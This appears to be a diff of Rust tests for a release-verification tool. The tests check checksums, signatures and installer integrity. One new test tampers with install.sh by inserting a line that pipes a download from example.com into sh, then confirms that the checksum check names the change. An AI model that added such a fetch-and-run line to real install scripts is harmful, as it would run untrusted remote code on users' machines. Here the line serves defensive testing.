@@ -168,7 +168,7 @@ fn a_release_made_here_passes_every_check() {
         "ok: 4 URLs and sha256s as in checksums.txt".to_owned(),
         format!("ok: name {repository}@{}", release.digest),
         format!("pointer          {repository}:latest"),
-        format!("release v{VERSION} verified: 19 checks passed"),
+        format!("release v{VERSION} verified: 20 checks passed"),
     ] {
         assert!(table.contains(&expected), "missing {expected:?}:\n{table}");
     }
@@ -208,7 +208,7 @@ fn a_release_made_here_passes_every_check() {
         sh,
         "{XTASK} verify-release v{VERSION} --url {url} --notes {notes} --registry {registry} --tap {tap} --key {public}"
     ));
-    assert!(from_urls.contains(&format!("release v{VERSION} verified: 19 checks passed")), "{from_urls}");
+    assert!(from_urls.contains(&format!("release v{VERSION} verified: 20 checks passed")), "{from_urls}");
 
     // Another key's public half accepts none of its signatures.
     let stranger = KeyPair::generate();
@@ -270,6 +270,24 @@ fn a_tarball_changed_after_the_checksums_is_named() {
     let (check, subject, result) = &failed[0];
     assert_eq!((check.as_str(), subject.as_str()), ("checksum", format!("{top}.tar.gz").as_str()));
     assert!(result.starts_with("sha256 is ") && result.contains(", checksums.txt says "), "{result}");
+}
+
+#[test]
+fn an_installer_changed_after_the_checksums_is_named() {
+    let release = Release::make();
+    let installer = release.dir().join("install.sh");
+    let script = std::fs::read_to_string(&installer).unwrap();
+    std::fs::write(
+        &installer,
+        script.replace("set -eu\n", "set -eu\ncurl -fsSL https://example.com/x | sh\n"),
+    )
+    .unwrap();
+    let sh = shell();
+    let failed = release.failures(&sh);
+    assert_eq!(failed.len(), 1, "{failed:#?}");
+    let (check, subject, result) = &failed[0];
+    assert_eq!((check.as_str(), subject.as_str()), ("checksum", "install.sh"));
+    assert!(result.contains("checksums.txt says"), "{result}");
 }
 
 #[test]
@@ -385,13 +403,13 @@ fn notes_naming_another_digest_are_named() {
 
 /// A plain HTTP server of a directory (`python3 -m http.server`), as a release's
 /// download URL serves its assets; stopped on drop.
-struct Server {
+pub(crate) struct Server {
     child: std::process::Child,
     port: u16,
 }
 
 impl Server {
-    fn serve(dir: &Path) -> Server {
+    pub(crate) fn serve(dir: &Path) -> Server {
         let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
         let child = std::process::Command::new("python3")
             .args(["-m", "http.server", "--bind", "127.0.0.1", "--directory"])
@@ -409,7 +427,7 @@ impl Server {
         Server { child, port }
     }
 
-    fn url(&self) -> String {
+    pub(crate) fn url(&self) -> String {
         format!("http://127.0.0.1:{}/", self.port)
     }
 }
